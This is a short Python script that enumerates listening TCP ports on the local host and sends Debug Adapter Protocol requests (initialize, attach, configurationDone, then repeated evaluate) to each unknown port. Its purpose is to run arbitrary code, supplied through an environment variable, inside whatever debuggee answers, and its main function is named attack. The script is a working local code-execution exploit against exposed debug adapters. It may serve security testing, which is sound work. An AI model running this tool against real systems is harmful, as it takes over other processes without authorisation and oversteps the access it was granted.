"""Speak DAP to every TCP port of this host that is not in KNOWN, to run CODE in the debuggee."""

# ruff: noqa: T201  printing is its answer

import json
import os
import socket
import time
from pathlib import Path


def ports() -> set[int]:
    found = set()
    for line in Path("/proc/net/tcp").read_text("ascii").splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        if state == "0A":
            found.add(int(local.rpartition(":")[2], 16))
    return found


def send(link: socket.socket, number: int, command: str, arguments: dict[str, object]) -> None:
    body = {"seq": number, "type": "request", "command": command, "arguments": arguments}
    text = json.dumps(body).encode()
    link.sendall(b"Content-Length: %d\r\n\r\n" % len(text) + text)


def attack(port: int) -> None:
    link = socket.create_connection(("127.0.0.1", port), 2)
    link.settimeout(0.5)
    send(link, 1, "initialize", {"adapterID": "x", "clientID": "x"})
    send(link, 2, "attach", {})
    send(link, 3, "configurationDone", {})
    evaluate: dict[str, object] = {"expression": os.environ["CODE"], "context": "repl"}
    heard = b""
    deadline = time.monotonic() + float(os.environ.get("SECONDS_", "3"))
    asked = 3
    while time.monotonic() < deadline and os.environ["WANTED"].encode() not in heard:
        asked += 1
        send(link, asked, "evaluate", evaluate)
        try:
            more = link.recv(65536)
        except TimeoutError:
            continue
        if not more:
            break
        heard += more
    print(port, heard.decode(errors="replace"))


for each in sorted(ports() - set(json.loads(os.environ["KNOWN"]))):
    try:
        attack(each)
    except OSError as error:
        print(each, error)
